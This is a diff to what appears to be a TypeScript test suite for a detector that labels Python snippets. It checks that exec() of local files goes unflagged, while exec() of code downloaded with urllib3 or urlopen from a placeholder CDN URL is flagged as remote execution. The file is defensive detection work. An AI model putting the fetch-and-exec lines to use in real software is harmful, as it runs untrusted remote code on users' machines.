@@ -531,3 +531,21 @@ test('what is fetched and started on a machine that the program made weighs less
   assert.deepEqual(told(fetches(kit, 'return os.system(command)')), ['high']);
   assert.deepEqual(told(fetches('import subprocess', 'return await self.run(sandbox, command)')), ['high']);
 });
+
+test('a file that lies in a folder called as a library is no answer of a server', () => {
+  const python = (text: string): readonly ActKind[] =>
+    actsOf({ path: 'pkg/names.py', text, language: 'python', context: 'runtime' }).map(({ kind }) => kind);
+
+  assert.deepEqual(
+    python('import pathlib\nnames = {}\nexec((pathlib.Path.cwd() / "aiohttp/names.py").read_text(), names)\n'),
+    [],
+  );
+  assert.deepEqual(python('import os\nexec(open(os.path.join(here, "urllib3", "_version.py")).read())\n'), []);
+  assert.deepEqual(python('exec(__import__("urllib3").PoolManager().request("GET", place).data)\n'), [
+    'remote-execution',
+  ]);
+  assert.deepEqual(
+    python('from urllib.request import urlopen\nexec(urlopen("https://cdn.acme-files.xyz/a.py").read())\n'),
+    ['remote-execution'],
+  );
+});
